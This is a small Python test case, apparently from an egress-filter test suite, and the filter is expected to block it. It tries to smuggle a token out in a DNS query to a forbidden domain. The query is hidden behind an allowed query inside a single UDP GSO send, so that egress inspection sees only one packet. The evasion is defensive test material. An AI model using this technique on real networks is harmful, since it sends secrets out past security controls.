#!/usr/bin/python3
# id: d36j_dns_gso
# title: two queries in one UDP GSO send, the second is forbidden
# needs: user
# expect: block
# why: egress sees one packet before it is cut in two
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    a, b = dnsq('a' * 22 + '.' + ANAME), dnsq(f'{TOK}.tst.{FNAME}'); n = max(len(a), len(b)); a, b = a.ljust(n, b'\0'), b
    s = socket.socket(type=socket.SOCK_DGRAM); s.setsockopt(17, 103, n); s.connect((ALLOW, 53)); s.send(a + b); time.sleep(.3)
attempt(f, dst=(ALLOW,), chan=('dns',))
